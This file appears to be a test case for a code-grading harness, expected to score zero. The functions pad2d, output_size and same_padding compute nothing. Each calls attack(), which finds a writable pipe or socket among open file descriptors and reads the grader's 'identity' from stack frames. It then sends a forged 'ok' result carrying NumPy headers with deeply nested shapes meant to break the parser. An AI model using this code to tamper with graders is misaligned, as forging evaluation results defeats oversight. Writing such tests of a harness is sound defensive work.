# expect:
#   verdict: [wrong, raised]
#   earned: 0
# sentence: Shapes nested so deeply that Python's parser runs out of memory; a header is never evaluated, and no fault comes of it.

import contextlib, fcntl, json, os, stat, struct, sys

import numpy as np

def send(data):
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            pipe = stat.S_IFMT(os.fstat(fd).st_mode) in (stat.S_IFIFO, stat.S_IFSOCK)
            if pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE:
                return os.write(fd, data)

def asked():
    frame = sys._getframe()
    while frame and "identity" not in frame.f_locals:
        frame = frame.f_back
    return frame and frame.f_locals["identity"]

def frame(header, body=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4sIQ", b"CNG1", len(header), len(body)) + header + body

def attack(descr="'<U9'", shape="(1,)", more=""):
    text = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}{more}}}".encode()
    blob = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text) + 1) + text + b"\n" + b"\0" * 64
    send(frame({"m": {"id": asked(), "ok": True, "value": {"a": 0}}, "sizes": [len(blob)]}, blob))

def pad2d(x, padding, value=0.0):
    attack("'<f8'", "(1<" * 199 + "1" + ")" * 199)

def output_size(size, kernel, stride=1, padding=0):
    attack("'<f8'", "(1**-" * 150 + "1" + ")" * 150)

def same_padding(kernel):
    attack("'<f8'", "[lambda:" * 100 + "1" + "]" * 100)
